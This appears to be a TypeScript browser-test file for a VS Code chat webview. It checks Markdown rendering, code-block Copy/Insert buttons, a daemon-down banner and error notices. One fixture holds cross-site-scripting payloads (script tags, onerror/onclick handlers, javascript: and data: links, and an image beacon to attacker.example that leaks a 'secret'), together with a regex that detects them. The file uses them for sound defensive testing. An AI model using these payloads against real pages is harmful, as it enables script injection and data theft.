// The editor experience in the real webview bundle (headless Chromium, fake host): answers render as Markdown with
// highlighted code and working Copy / Insert at Cursor, nothing a hostile model writes reaches the DOM as markup or
// runs, and a daemon that is down gets a banner with buttons.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync } from 'node:fs';
import path from 'node:path';
import { ARTIFACTS, startWebviewHarness, type WebviewHarness } from './webview-harness';

let h: WebviewHarness;

before(async () => {
  mkdirSync(ARTIFACTS, { recursive: true });
  h = await startWebviewHarness();
});
after(async () => h?.close());

const FRIENDLY = [
  '## Fix',
  '',
  'Use `pathlib` instead:',
  '',
  '- first item',
  '- second with a [link](https://docs.python.org/3/)',
  '',
  '```python',
  'def greet(name):',
  '    return f"hi {name}"',
  '```',
  '',
].join('\n');

const HOSTILE = [
  '<img src=x onerror="window.__pwned=1">',
  '<script>window.__pwned=2</script>',
  '[click](javascript:window.__pwned=3) [data](data:text/html,<script>window.__pwned=4</script>)',
  '![pic](https://attacker.example/leak.png?q=secret "t")',
  '<a href="javascript:window.__pwned=5">raw link</a>',
  '<div onclick="window.__pwned=6">div</div>',
  '',
  '```html',
  '<script>window.__pwned=7</script>',
  '```',
].join('\n');

async function answerFor(text: string) {
  const page = await h.open('chat', { chunkMs: 5, answer: text });
  await page.locator('vscode-text-area textarea').fill('hello there');
  await page.locator('vscode-text-area textarea').press('Enter');
  await page.locator('.turn[data-status="done"]').waitFor();
  return page;
}

test('markdown: headings, lists, links, inline code and a highlighted code block with Copy and Insert at Cursor', async () => {
  const page = await answerFor(FRIENDLY);
  const answer = page.locator('.turn .answer-text').last();
  assert.equal(await answer.locator('h2').innerText(), 'Fix');
  assert.equal(await answer.locator('li').count(), 2);
  assert.equal(await answer.locator('p code').innerText(), 'pathlib');
  assert.equal(await answer.locator('a').getAttribute('href'), 'https://docs.python.org/3/');
  assert.ok(await answer.locator('pre code .hljs-keyword').count() > 0, 'python keywords are highlighted');
  assert.equal(await answer.locator('.code-lang').innerText(), 'python');
  await page.screenshot({ path: path.join(ARTIFACTS, 'webview-chat-markdown-dark.png') });

  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(page.url()).origin });
  await answer.locator('vscode-button[aria-label="Copy code"]').click();
  await answer.locator('.code-status').filter({ hasText: 'Copied.' }).waitFor();
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), 'def greet(name):\n    return f"hi {name}"\n');

  await answer.locator('vscode-button[aria-label="Insert code at the cursor"]').click();
  await answer.locator('.code-status').filter({ hasText: 'Inserted.' }).waitFor();
  const inserts = await page.evaluate(() => (window as unknown as { __host: { log: { method?: string; params?: unknown }[] } }).__host.log
    .filter((m) => m.method === 'editor/insert').map((m) => m.params));
  assert.deepEqual(inserts, [{ code: 'def greet(name):\n    return f"hi {name}"\n' }]);
  await page.context().close();
});

test('markdown: hostile HTML, script, javascript: and data: links and remote images never reach the DOM', async () => {
  const page = await answerFor(HOSTILE);
  const answer = page.locator('.turn .answer-text').last();
  // Click every link there is: none may run anything.
  for (const link of await answer.locator('a').all()) await link.click({ noWaitAfter: true }).catch(() => undefined);
  const found = await page.evaluate(() => {
    const root = document.querySelector('.turn:last-child .answer-text')!;
    const attrs = Array.from(root.querySelectorAll('*')).flatMap((e) => Array.from(e.attributes).map((a) => `${e.tagName.toLowerCase()}[${a.name}=${a.value}]`));
    return {
      pwned: (window as unknown as { __pwned?: number }).__pwned ?? null,
      // The code block's own frame (a div with its action buttons) is ours, not the model's.
      tags: Array.from(new Set(Array.from(root.querySelectorAll('*')).filter((e) => !e.closest('.code-actions') && !e.matches('.code-block'))
        .map((e) => e.tagName.toLowerCase()))).sort(),
      attrs,
      text: (root as HTMLElement).innerText,
    };
  });
  assert.equal(found.pwned, null);
  for (const bad of ['img', 'script', 'div', 'iframe']) assert.ok(!found.tags.includes(bad), `no <${bad}>: ${found.tags.join(',')}`);
  assert.deepEqual(found.attrs.filter((a) => /on\w+=|javascript:|data:|attacker\.example/i.test(a)), [], found.attrs.join('\n'));
  // The hostile markup is still visible to the user, as text.
  assert.match(found.text, /<img src=x onerror=/);
  assert.match(found.text, /<script>window.__pwned=2<\/script>/);
  assert.match(found.text, /pic/, 'an image becomes its alt text');
  assert.deepEqual(found.tags, ['code', 'p', 'pre', 'span']);
  await page.context().close();
});

test('banner: "airlockd is not running" with Start, Open Log and Open Settings; Start reconnects and hides it', async () => {
  const page = await h.open('chat', { down: 1 });
  const banner = page.locator('.banner[data-state="down"]');
  await banner.filter({ hasText: 'airlockd is not running' }).waitFor();
  for (const label of ['Start airlockd', 'Open the daemon log', 'Open Airlock settings']) {
    assert.equal(await banner.locator(`vscode-button[aria-label="${label}"]`).isVisible(), true, label);
  }
  await page.screenshot({ path: path.join(ARTIFACTS, 'webview-banner-down-dark.png') });
  await banner.locator('vscode-button[aria-label="Open the daemon log"]').click();
  await banner.locator('vscode-button[aria-label="Open Airlock settings"]').focus();
  await page.keyboard.press('Enter');
  await banner.locator('vscode-button[aria-label="Start airlockd"]').click();
  await page.locator('.banner[data-state="connected"]').waitFor({ state: 'hidden' });
  const actions = await page.evaluate(() => (window as unknown as { __host: { log: { method?: string; params?: { action?: string } }[] } }).__host.log
    .filter((m) => m.method === 'help/run').map((m) => m.params?.action));
  assert.deepEqual(actions, ['log', 'settings', 'start']);
  await page.context().close();
});

test('errors: one sentence and the button that fixes it; details folded; the badge says failed', async () => {
  const page = await h.open('chat', { chunkMs: 5 });
  await page.locator('vscode-text-area textarea').fill('A public question, no key anywhere');
  await page.locator('vscode-text-area textarea').press('Enter');
  const turn = page.locator('.turn[data-status="error"]');
  await turn.waitFor();
  assert.equal(await turn.locator('.notice-error').innerText(), 'No hosted provider has an API key. Set API Key…');
  assert.equal(await turn.locator('.error-details').isVisible(), true);
  assert.equal(await turn.locator('.error-details-text').isVisible(), false, 'the per-provider reasons stay folded');
  assert.match(await turn.locator('.route-badge').innerText(), /· failed$/);
  await turn.locator('vscode-button', { hasText: 'Set API Key…' }).click();
  await page.waitForFunction(() => (window as unknown as { __host: { log: { method?: string }[] } }).__host.log.some((m) => m.method === 'help/run'));
  const actions = await page.evaluate(() => (window as unknown as { __host: { log: { method?: string; params?: { action?: string } }[] } }).__host.log
    .filter((m) => m.method === 'help/run').map((m) => m.params?.action));
  assert.deepEqual(actions, ['setApiKey']);
  await page.screenshot({ path: path.join(ARTIFACTS, 'webview-chat-error-dark.png') });
  await page.context().close();
});
